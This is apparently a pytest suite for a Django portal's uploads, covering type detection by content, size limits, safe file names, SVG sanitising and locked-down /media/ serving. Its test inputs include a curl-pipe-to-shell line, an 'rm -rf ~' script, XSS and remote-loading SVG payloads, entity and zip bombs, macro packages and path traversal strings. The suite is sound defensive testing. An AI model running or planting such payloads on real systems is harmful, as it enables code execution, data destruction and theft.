"""Uploads: types decided by content, size limits, safe stored names, and how /media/ serves
the files. Every file is built here, byte by byte or with zipfile and Pillow."""

import datetime
import io
import re
import zipfile

import pytest
from django import forms
from django.contrib.auth.models import Permission
from django.core.exceptions import ValidationError
from django.core.files.base import ContentFile
from django.core.files.storage import default_storage
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from django.utils import timezone
from PIL import Image

from organisations.models import Organisation
from publications.models import Publication
from publishing.choices import PublishState
from tests.admin_forms import admin_form_data
from tests.factories import OrganisationFactory, PublicationFactory
from uploads import filetypes
from uploads.filetypes import SVG, identify
from uploads.names import document_upload_to
from uploads.validators import validate_document, validate_logo

pytestmark = pytest.mark.django_db

DOCUMENTS_ALLOWED = "Tillåtna format är PDF, Word (.docx), Excel (.xlsx), PowerPoint (.pptx)"
LOGOS_ALLOWED = "Tillåtna format är PNG, JPEG och SVG."


@pytest.fixture(autouse=True)
def _media_in_tmp(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path / "media"


# --- Files built in the test ----------------------------------------------------------------


def make_pdf(padding=0):
    """A minimal valid one-page PDF with a correct cross-reference table; ``padding`` bytes of
    comment make it larger."""
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
    ]
    out = b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n"
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    if padding:
        out += b"%" + b"x" * padding + b"\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1,
        xref,
    )
    return out


OOXML = {
    "docx": ("word/document.xml", "wordprocessingml.document"),
    "xlsx": ("xl/workbook.xml", "spreadsheetml.sheet"),
    "pptx": ("ppt/presentation.xml", "presentationml.presentation"),
}


def make_ooxml(kind, main_type=None, extra=()):
    """A minimal Office Open XML package: content types, package relationships, main part."""
    part, name = OOXML[kind]
    main_type = main_type or f"application/vnd.openxmlformats-officedocument.{name}.main+xml"
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(
            "[Content_Types].xml",
            '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
            '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
            '<Default Extension="rels" '
            'ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
            '<Default Extension="xml" ContentType="application/xml"/>'
            f'<Override PartName="/{part}" ContentType="{main_type}"/></Types>',
        )
        archive.writestr(
            "_rels/.rels",
            '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/'
            f'2006/relationships/officeDocument" Target="{part}"/></Relationships>',
        )
        archive.writestr(part, '<?xml version="1.0" encoding="UTF-8"?><root/>')
        for entry, data in extra:
            archive.writestr(entry, data)
    return buffer.getvalue()


def make_odf(kind, mimetype=None, extra=()):
    """A minimal OpenDocument package: ``mimetype`` first and stored, then content.xml."""
    mimetype = mimetype or f"application/vnd.oasis.opendocument.{kind}"
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("mimetype", mimetype, compress_type=zipfile.ZIP_STORED)
        archive.writestr("content.xml", '<?xml version="1.0" encoding="UTF-8"?><doc/>')
        archive.writestr(
            "META-INF/manifest.xml", '<?xml version="1.0" encoding="UTF-8"?><manifest/>'
        )
        for entry, data in extra:
            archive.writestr(entry, data)
    return buffer.getvalue()


def make_zip(entries):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in entries:
            archive.writestr(name, data)
    return buffer.getvalue()


def make_image(image_format, size=(40, 20)):
    buffer = io.BytesIO()
    image = Image.new("RGB", size, (0, 90, 160))
    if image_format == "MPO":  # a camera's JPEG with a second picture
        image.save(buffer, "MPO", save_all=True, append_images=[image.copy()])
    else:
        image.save(buffer, image_format)
    return buffer.getvalue()


SHELL_SCRIPT = b"#!/bin/sh\ncurl https://example.org/x | sh\n"
PYTHON_SCRIPT = b"import os\n\nos.system('rm -rf ~')\n"
HTML_PAGE = b"<!DOCTYPE html>\n<html><head><script>alert(document.cookie)</script></head></html>"
EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + b"\x00" * 200 + b"PE\x00\x00"
OLE2 = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504

SVG_LOGO = """<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"
     viewBox="0 0 100 40" width="100" height="40">
  <style>.bla { fill: #005aa0 }</style>
  <defs><linearGradient id="g"><stop offset="0" stop-color="#fff"/></linearGradient></defs>
  <rect class="bla" width="100" height="40" fill="url(#g)"/>
  <text x="4" y="30" font-family="sans-serif">Tillväxt Åre</text>
</svg>
"""
SVG_WITH_SCRIPT = """<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"
     viewBox="0 0 100 40" onload="alert(1)">
  <script>alert(2)</script>
  <script xlink:href="https://evil.example/x.js"/>
  <style>@import url(https://evil.example/x.css); .c { fill: red }</style>
  <a xlink:href="javascript:alert(3)"><rect id="kept" width="10" height="10"/></a>
  <a href="javascript:alert(4)"><circle r="4" onclick="alert(5)"/></a>
  <rect width="5" height="5" style="fill: url(https://evil.example/track.png)"/>
  <use href="https://evil.example/sprite.svg#logo"/>
  <image href="https://evil.example/pixel.png" width="1" height="1"/>
  <foreignObject><body xmlns="http://www.w3.org/1999/xhtml"><script>alert(6)</script></body>
  </foreignObject>
  <set attributeName="href" to="javascript:alert(7)"/>
  <animate attributeName="onmouseover" values="alert(8)"/>
</svg>
"""
SVG_WITH_ENTITIES = """<?xml version="1.0"?>
<!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>
<svg xmlns="http://www.w3.org/2000/svg"><text>&b;</text></svg>
"""


def upload(name, data, content_type="application/octet-stream"):
    return SimpleUploadedFile(name, data, content_type=content_type)


def messages(error):
    return " ".join(error.messages)


# --- Documents: decided by content ----------------------------------------------------------


ACCEPTED_DOCUMENTS = [
    ("rapport.pdf", make_pdf(), "PDF"),
    ("rapport.docx", make_ooxml("docx"), "DOCX"),
    ("tabell.xlsx", make_ooxml("xlsx"), "XLSX"),
    ("bilder.pptx", make_ooxml("pptx"), "PPTX"),
    ("rapport.odt", make_odf("text"), "ODT"),
    ("tabell.ods", make_odf("spreadsheet"), "ODS"),
    ("bilder.odp", make_odf("presentation"), "ODP"),
]


@pytest.mark.parametrize(("name", "data", "label"), ACCEPTED_DOCUMENTS, ids=lambda v: str(v)[:12])
def test_real_documents_are_accepted_and_identified(name, data, label):
    file = upload(name, data)
    validate_document(file)
    assert identify(file).label == label
    assert file.read() == data  # put back at the start for Django to save


REFUSED_DOCUMENTS = [
    ("rapport.pdf", SHELL_SCRIPT, "ett skript"),
    ("rapport.pdf", PYTHON_SCRIPT, "en textfil"),
    ("rapport.pdf", HTML_PAGE, "en HTML-sida"),
    ("rapport.html", HTML_PAGE, "en HTML-sida"),
    ("rapport.pdf", EXE, "ett Windows-program"),
    ("rapport.docx", make_zip([("a.txt", "hej"), ("b.js", "alert(1)")]), "ett ZIP-arkiv"),
    ("rapport.doc", OLE2, "äldre Office-format"),
    ("rapport.pdf", make_image("PNG"), "en PNG-bild"),
    ("rapport.pdf", SVG_LOGO.encode(), "en SVG-bild"),
    ("rapport.pdf", b"", "en tom fil"),
    ("mall.dotx", make_ooxml("docx", "application/vnd.openxmlformats-officedocument."
                             "wordprocessingml.template.main+xml"), "en mall"),
    ("bok.odg", make_odf("graphics"), "OpenDocument-paket av en sort som inte tas emot"),
]  # fmt: skip


@pytest.mark.parametrize(("name", "data", "found"), REFUSED_DOCUMENTS)
def test_other_files_are_refused_saying_what_they_are_and_what_is_allowed(name, data, found):
    with pytest.raises(ValidationError) as excinfo:
        validate_document(upload(name, data, content_type="application/pdf"))
    text = messages(excinfo.value)
    assert f"Filen kan inte tas emot: den är {found}" in text or found in text
    assert DOCUMENTS_ALLOWED in text
    assert excinfo.value.error_list[0].code == "file_type"


BROKEN_OR_DANGEROUS = [
    ("no end", make_pdf()[:-40], "ofullständig"),
    ("no objects", b"%PDF-1.4\n" + b"0" * 2000 + b"\nstartxref\n0\n%%EOF\n", "PDF-fil"),
    ("header only", b"%PDF-1.4\n" + b"0" * 2000, "PDF-fil"),
    ("docm", make_ooxml("docx", "application/vnd.ms-word.document.macroEnabled.main+xml"),
     "makron"),
    ("vba", make_ooxml("xlsx", extra=[("xl/vbaProject.bin", b"\x00" * 10)]), "makron"),
    ("odf basic", make_odf("text", extra=[("Basic/Standard/Module1.xml", "<x/>")]), "makron"),
    ("broken zip", make_ooxml("docx")[:300], "skadat ZIP-arkiv"),
    ("ratio bomb", make_ooxml("docx", extra=[("word/media/a.bin", b"\x00" * (21 * 1024**2))]),
     "orimligt mycket data"),
    ("odf without content", make_zip([("mimetype", "application/vnd.oasis.opendocument.text")]),
     "ofullständigt OpenDocument"),
]  # fmt: skip


@pytest.mark.parametrize(("data", "said"), [c[1:] for c in BROKEN_OR_DANGEROUS],
                         ids=[c[0] for c in BROKEN_OR_DANGEROUS])  # fmt: skip
def test_broken_packages_macros_and_bombs_are_refused(data, said):
    file = upload("rapport.docx", data)
    with pytest.raises(ValidationError) as excinfo:
        validate_document(file)
    assert said in messages(excinfo.value)
    assert identify(file) is None


def test_a_zip_with_too_many_entries_is_refused_from_its_directory(monkeypatch):
    monkeypatch.setattr(filetypes, "MAX_ZIP_ENTRIES", 50)
    data = make_ooxml("docx", extra=[(f"word/part{n}.xml", "<x/>") for n in range(60)])
    zipfile_class = zipfile.ZipFile

    def no_full_read(*args, **kwargs):  # refused from the end record, before zipfile reads all
        raise AssertionError("the ZIP directory was parsed")

    monkeypatch.setattr(zipfile, "ZipFile", no_full_read)
    with pytest.raises(ValidationError) as excinfo:
        validate_document(upload("rapport.docx", data))
    assert "orimligt många delar" in messages(excinfo.value)
    monkeypatch.setattr(zipfile, "ZipFile", zipfile_class)
    monkeypatch.setattr(filetypes, "MAX_ZIP_ENTRIES", 100)
    validate_document(upload("rapport.docx", data))


# --- Size limits ----------------------------------------------------------------------------


class UnreadableUpload(SimpleUploadedFile):
    def read(self, *args, **kwargs):
        raise AssertionError("an oversized file was read")


def test_an_oversized_document_is_refused_naming_the_limit_without_being_read(settings):
    settings.MAX_DOCUMENT_UPLOAD_MB = 0.02  # about 20 kB
    validate_document(upload("liten.pdf", make_pdf(padding=15_000)))
    with pytest.raises(ValidationError) as excinfo:
        validate_document(UnreadableUpload("stor.pdf", make_pdf(padding=30_000)))
    text = messages(excinfo.value)
    assert "Filen är för stor (29,6\xa0kB). Största tillåtna storlek är 0,02 MB." in text
    assert excinfo.value.error_list[0].code == "file_too_large"


def test_the_default_limits_come_from_the_settings(settings):
    assert settings.MAX_DOCUMENT_UPLOAD_MB == 50
    assert settings.MAX_LOGO_UPLOAD_MB == 2


def test_an_oversized_logo_is_refused(settings):
    settings.MAX_LOGO_UPLOAD_MB = 0.001
    with pytest.raises(ValidationError) as excinfo:
        validate_logo(UnreadableUpload("logo.png", make_image("PNG", (300, 300)) * 2))
    assert "Största tillåtna storlek är 0,001 MB." in messages(excinfo.value)


# --- Logos ----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("image_format", "label"), [("PNG", "PNG"), ("JPEG", "JPEG"), ("MPO", "JPEG")]
)
def test_png_and_jpeg_logos_are_accepted(image_format, label):
    file = upload("logo", make_image(image_format))
    validate_logo(file)
    assert identify(file).label == label


@pytest.mark.parametrize(
    ("data", "said"),
    [
        (make_image("PNG")[:60], "Bilden kan inte läsas"),
        (make_image("JPEG")[:200], "Bilden kan inte läsas"),
        (make_image("PNG", (4500, 10)), "Bilden är för stor: 4500 × 10 bildpunkter"),
        (make_image("GIF"), "den är en GIF-bild. " + LOGOS_ALLOWED),
        (make_pdf(), "den är en PDF-fil. " + LOGOS_ALLOWED),
        (HTML_PAGE, "den är en HTML-sida. " + LOGOS_ALLOWED),
        (SVG_WITH_ENTITIES.encode(), "SVG-filen kan inte tas emot"),
        (b"<svg><rect/></svg>", "SVG-filen kan inte tas emot"),  # no SVG namespace
    ],
    ids=["truncated png", "truncated jpeg", "huge", "gif", "pdf", "html", "entities", "no ns"],
)
def test_broken_huge_or_other_logos_are_refused(data, said):
    with pytest.raises(ValidationError) as excinfo:
        validate_logo(upload("logo.png", data))
    assert said in messages(excinfo.value)


def test_a_decompression_bomb_is_refused_before_it_is_decoded(monkeypatch):
    monkeypatch.setattr(Image, "MAX_IMAGE_PIXELS", 1000)
    with pytest.raises(ValidationError) as excinfo:
        validate_logo(upload("logo.png", make_image("PNG", (40, 60))))
    assert "Bilden kan inte läsas" in messages(excinfo.value)


LogoForm = forms.modelform_factory(Organisation, fields=["name", "slug", "kind", "logo"])


def save_logo(name, data):
    form = LogoForm(
        data={"name": "Region Test", "slug": "region-test", "kind": "region"},
        files={"logo": upload(name, data)},
    )
    assert form.is_valid(), form.errors
    return form.save()


def test_an_svg_logo_is_stored_sanitized():
    organisation = save_logo("logo med skript.svg", SVG_WITH_SCRIPT.encode())
    assert re.fullmatch(r"organisations/logos/logo-med-skript\.svg", organisation.logo.name)
    with organisation.logo.open("rb") as stored:
        svg = stored.read().decode()
    lowered = svg.lower()
    for unsafe in ("script", "onload", "onclick", "javascript:", "evil.example", "foreignobject",
                   "<set", "<animate", "@import", "alert"):  # fmt: skip
        assert unsafe not in lowered, unsafe
    assert '<rect id="kept" width="10" height="10" />' in svg
    assert "<circle" in svg and "<style />" in svg  # CSS that loads something is emptied
    assert identify(organisation.logo) is SVG


def test_a_plain_svg_logo_keeps_its_drawing():
    organisation = save_logo("Logotyp.svg", SVG_LOGO.encode())
    with organisation.logo.open("rb") as stored:
        svg = stored.read().decode()
    assert svg.startswith('<?xml version="1.0" encoding="UTF-8"?>\n<svg ')
    assert "DOCTYPE" not in svg
    for kept in ('xmlns="http://www.w3.org/2000/svg"', 'viewBox="0 0 100 40"',
                 "<style>.bla { fill: #005aa0 }</style>", 'fill="url(#g)"', "Tillväxt Åre",
                 'stop-color="#fff"'):  # fmt: skip
        assert kept in svg


def test_a_png_logo_is_stored_with_its_detected_extension():
    organisation = save_logo("Länsstyrelsen logga.jpeg", make_image("PNG"))
    assert organisation.logo.name == "organisations/logos/lansstyrelsen-logga.png"


def test_a_refused_logo_keeps_the_rest_of_the_form():
    form = LogoForm(
        data={"name": "Region Test", "slug": "region-test", "kind": "region"},
        files={"logo": upload("logo.png", SHELL_SCRIPT)},
    )
    assert not form.is_valid()
    assert "den är ett skript" in " ".join(form.errors["logo"])
    assert form["name"].value() == "Region Test"
    assert not Organisation.objects.exists()


# --- Stored names ---------------------------------------------------------------------------


SAFE_DOCUMENT_NAME = re.compile(r"publications/\d{4}/[a-z0-9-]{1,60}\.(pdf|docx|bin)")


@pytest.mark.parametrize(
    ("client_name", "stem"),
    [
        ("Årsrapport 2018 – Östra Götaland.pdf", "arsrapport-2018-ostra-gotaland"),
        ("../../etc/passwd", "passwd"),
        ("/var/www/rapport.pdf", "rapport"),
        ("C:\\Users\\anna\\Rapport.PDF", "rapport"),
        ("rap\x00port\x1b.pdf", "rapport"),
        ("..", "dokument"),
        (".htaccess", "htaccess"),
        ("rapport.pdf.exe", "rapport-pdf"),
        ("<script>.pdf", "script"),
        ("日本語.pdf", "dokument"),
        ("a" * 300 + ".pdf", "a" * 60),
    ],
)
def test_stored_document_names_are_safe_slugs(client_name, stem):
    publication = Publication(file=upload("x.pdf", make_pdf()))
    name = document_upload_to(publication, client_name)
    assert name == f"publications/{timezone.now().year}/{stem}.pdf"
    assert SAFE_DOCUMENT_NAME.fullmatch(name)


def test_a_real_pdf_is_stored_under_a_safe_name_with_format_pdf():
    data = make_pdf()
    publication = PublicationFactory(file=upload("../Årsrapport 2018 (slutlig).pdf", data))
    publication.refresh_from_db()
    year = timezone.now().year
    assert publication.file.name == f"publications/{year}/arsrapport-2018-slutlig.pdf"
    assert (publication.file_format, publication.file_size) == ("PDF", len(data))
    with publication.file.open("rb") as stored:
        assert stored.read() == data


def test_the_format_and_extension_follow_the_content_not_the_name():
    publication = PublicationFactory(file=upload("rapport.docx", make_pdf()))
    assert publication.file.name.endswith("/rapport.pdf")
    assert publication.file_format == "PDF"
    spreadsheet = PublicationFactory(file=upload("tabell.pdf", make_ooxml("xlsx")))
    assert spreadsheet.file.name.endswith("/tabell.xlsx")
    assert spreadsheet.file_format == "XLSX"


def test_a_file_saved_without_validation_is_stored_as_a_download():
    """Code that skips full_clean cannot store a runnable name: unknown content gets .bin."""
    publication = PublicationFactory(file=upload("sida.html", HTML_PAGE))
    assert publication.file.name.endswith("/sida.bin")
    assert publication.file_format == ""


def test_saving_other_fields_keeps_the_file_details_even_if_the_file_is_gone():
    publication = PublicationFactory(file=upload("rapport.pdf", make_pdf()))
    size = publication.file_size
    default_storage.delete(publication.file.name)
    publication.title = "Ny titel"
    publication.full_clean()  # a stored file is not checked again
    publication.save()
    publication.refresh_from_db()
    assert (publication.file_format, publication.file_size) == ("PDF", size)


# --- Through the admin ----------------------------------------------------------------------


@pytest.fixture
def superuser_client(client, django_user_model):
    user = django_user_model.objects.create_superuser("redaktor", "redaktor@example.org", "x")
    client.force_login(user)
    return client


def publication_add_data(client, organisation):
    response = client.get(reverse("admin:publications_publication_add"))
    assert response.status_code == 200
    data = admin_form_data(response)
    data.update(
        title="Årsrapport om tillväxt",
        slug="arsrapport-om-tillvaxt",
        kind="report",
        organisations=[str(organisation.pk)],
        year="2019",
        external_url="https://www.example.se/arsrapport",
    )
    return data


@pytest.mark.parametrize(
    ("name", "data", "said"),
    [
        ("rapport.pdf", SHELL_SCRIPT, "den är ett skript"),
        ("rapport.html", HTML_PAGE, "den är en HTML-sida"),
        ("stor.pdf", make_pdf(padding=30_000), "Största tillåtna storlek är 0,02 MB"),
    ],
    ids=["script as pdf", "html", "oversized"],
)
def test_the_admin_refuses_a_bad_file_and_keeps_what_the_editor_typed(
    superuser_client, settings, name, data, said
):
    settings.MAX_DOCUMENT_UPLOAD_MB = 0.02
    organisation = OrganisationFactory()
    form_data = publication_add_data(superuser_client, organisation)
    form_data["file"] = upload(name, data)

    response = superuser_client.post(reverse("admin:publications_publication_add"), form_data)

    assert response.status_code == 200
    content = response.content.decode()
    assert said in content
    form = response.context["adminform"].form
    assert said in " ".join(form.errors["file"])
    assert form["title"].value() == "Årsrapport om tillväxt"
    assert form["external_url"].value() == "https://www.example.se/arsrapport"
    assert [str(pk) for pk in form["organisations"].value()] == [str(organisation.pk)]
    assert 'value="Årsrapport om tillväxt"' in content
    assert not Publication.objects.exists()
    assert not default_storage.exists("publications")


def test_the_admin_accepts_a_real_pdf(superuser_client):
    form_data = publication_add_data(superuser_client, OrganisationFactory())
    form_data["file"] = upload("Årsrapport.pdf", make_pdf())

    response = superuser_client.post(reverse("admin:publications_publication_add"), form_data)

    assert response.status_code == 302, response.context["adminform"].form.errors
    publication = Publication.objects.get()
    assert publication.file.name == f"publications/{timezone.now().year}/arsrapport.pdf"
    assert publication.file_format == "PDF"


def test_the_admin_change_form_refuses_a_bad_replacement_and_keeps_the_old_file(
    superuser_client,
):
    publication = PublicationFactory(title="Gammal titel", file=upload("rapport.pdf", make_pdf()))
    url = reverse("admin:publications_publication_change", args=[publication.pk])
    form_data = admin_form_data(superuser_client.get(url))
    form_data["title"] = "Ny titel som redaktören skrev"
    form_data["file"] = upload("rapport.pdf", HTML_PAGE)

    response = superuser_client.post(url, form_data)

    assert response.status_code == 200
    assert "den är en HTML-sida" in response.content.decode()
    assert response.context["adminform"].form["title"].value() == "Ny titel som redaktören skrev"
    unchanged = Publication.objects.get()
    assert (unchanged.title, unchanged.file.name) == ("Gammal titel", publication.file.name)

    form_data["file"] = upload("ny version.docx", make_ooxml("docx"))
    assert superuser_client.post(url, form_data).status_code == 302
    changed = Publication.objects.get()
    assert changed.title == "Ny titel som redaktören skrev"
    assert changed.file.name.endswith("/ny-version.docx") and changed.file_format == "DOCX"


# --- Serving --------------------------------------------------------------------------------


def fetch(client, name):
    return client.get(f"/media/{name}")


def body(response):
    return b"".join(response.streaming_content)


def assert_locked_down(response):
    assert response["X-Content-Type-Options"] == "nosniff"
    policy = response["Content-Security-Policy"]
    assert "default-src 'none'" in policy and "sandbox" in policy


@pytest.mark.parametrize("debug", [False, True], ids=["debug off", "debug on"])
def test_a_published_pdf_is_served_as_a_locked_down_download(client, settings, debug):
    settings.DEBUG = debug
    data = make_pdf()
    publication = PublicationFactory(file=upload("rapport.pdf", data))

    response = client.get(publication.file.url)

    assert response.status_code == 200
    assert response["Content-Type"] == "application/pdf"
    assert response["Content-Disposition"] == 'attachment; filename="rapport.pdf"'
    assert_locked_down(response)
    # Caches must revalidate, so that unpublishing hides the file at once.
    assert "no-cache" in response["Cache-Control"]
    assert body(response) == data


@pytest.mark.parametrize(
    ("kind", "content_type"),
    [
        ("docx", "application/vnd.openxmlformats-officedocument.wordprocessingml.document"),
        ("xlsx", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"),
        ("odt", "application/vnd.oasis.opendocument.text"),
    ],
)
def test_office_documents_are_served_as_downloads_of_their_type(client, kind, content_type):
    data = make_odf("text") if kind == "odt" else make_ooxml(kind)
    publication = PublicationFactory(file=upload(f"dokument.{kind}", data))

    response = fetch(client, publication.file.name)

    assert response.status_code == 200
    assert response["Content-Type"] == content_type
    assert response["Content-Disposition"].startswith("attachment;")
    assert_locked_down(response)


def test_logos_are_public_images_or_svg_downloads(client):
    png = save_logo("logo.png", make_image("PNG"))
    response = fetch(client, png.logo.name)
    assert response.status_code == 200
    assert response["Content-Type"] == "image/png"
    assert response["Content-Disposition"] == 'inline; filename="logo.png"'
    assert_locked_down(response)

    png.delete()
    svg = save_logo("logo.svg", SVG_LOGO.encode())
    response = fetch(client, svg.logo.name)
    assert response.status_code == 200
    assert response["Content-Type"] == "image/svg+xml"
    assert response["Content-Disposition"] == 'attachment; filename="logo.svg"'
    assert_locked_down(response)
    assert b"<svg" in body(response)


def test_the_content_type_comes_from_the_content_not_the_name(client):
    default_storage.save("organisations/logos/logo.pdf", ContentFile(make_image("PNG")))
    default_storage.save("organisations/logos/sida.png", ContentFile(HTML_PAGE))

    png = fetch(client, "organisations/logos/logo.pdf")
    html = fetch(client, "organisations/logos/sida.png")

    assert png["Content-Type"] == "image/png"
    assert html["Content-Type"] == "application/octet-stream"
    assert html["Content-Disposition"] == 'attachment; filename="sida.png"'
    assert_locked_down(html)


@pytest.mark.parametrize(
    ("state", "publish_from"),
    [(PublishState.DRAFT, None), (PublishState.PUBLISHED, "future")],
    ids=["draft", "scheduled"],
)
def test_an_unpublished_publications_file_is_only_for_editors(
    client, django_user_model, state, publish_from
):
    extra = {"publish_from": timezone.now() + datetime.timedelta(days=3)} if publish_from else {}
    publication = PublicationFactory(
        file=upload("utkast.pdf", make_pdf()), publish_state=state, **extra
    )
    url = publication.file.url

    assert client.get(url).status_code == 404

    staff = django_user_model.objects.create_user("personal", password="x", is_staff=True)
    client.force_login(staff)
    assert client.get(url).status_code == 404  # staff, but may not change publications

    staff.user_permissions.add(Permission.objects.get(codename="change_publication"))
    assert client.get(url).status_code == 404  # may change publications, but not this one's

    publication.organisations.first().editors.add(staff)
    response = client.get(url)
    assert response.status_code == 200
    assert response["Content-Type"] == "application/pdf"
    assert "no-store" in response["Cache-Control"] and "private" in response["Cache-Control"]
    assert_locked_down(response)

    client.logout()
    Publication.objects.filter(pk=publication.pk).update(
        publish_state=PublishState.PUBLISHED, publish_from=timezone.now()
    )
    assert client.get(url).status_code == 200


def test_a_file_no_publication_points_at_is_not_served(client):
    publication = PublicationFactory(file=upload("gammal.pdf", make_pdf()))
    old_name = publication.file.name
    publication.file = upload("ny.pdf", make_pdf())
    publication.save()

    assert default_storage.exists(old_name)
    assert fetch(client, old_name).status_code == 404
    assert fetch(client, publication.file.name).status_code == 200


def test_traversal_missing_files_and_other_folders_are_404(client, settings, tmp_path):
    (tmp_path / "hemlig.txt").write_text("lösenord")
    default_storage.save("annat/fil.pdf", ContentFile(make_pdf()))
    logo = save_logo("logo.png", make_image("PNG"))
    assert fetch(client, logo.logo.name).status_code == 200

    for path in [
        "../hemlig.txt",
        "organisations/logos/../../../hemlig.txt",
        "organisations/logos/%2e%2e/%2e%2e/%2e%2e/hemlig.txt",
        "organisations/logos/..%5c..%5c..%5chemlig.txt",
        "organisations/logos//etc/passwd",
        "/etc/passwd",
        "organisations/logos/saknas.png",
        "organisations/logos/",
        "organisations/logos",
        "publications/2019/saknas.pdf",
        "annat/fil.pdf",
        "",
    ]:
        response = client.get(f"/media/{path}")
        assert response.status_code == 404, path
        assert "lösenord" not in response.content.decode(errors="replace")
    # A NUL character is refused for every address (growth_portal.middleware).
    assert client.get("/media/organisations/logos/logo.png%00.txt").status_code == 400


def test_a_published_publication_whose_file_is_missing_is_404(client):
    publication = PublicationFactory(file=upload("rapport.pdf", make_pdf()))
    default_storage.delete(publication.file.name)
    assert fetch(client, publication.file.name).status_code == 404


def test_media_accepts_only_reads(client):
    logo = save_logo("logo.png", make_image("PNG"))
    assert client.head(f"/media/{logo.logo.name}").status_code == 200
    assert client.post(f"/media/{logo.logo.name}").status_code == 405
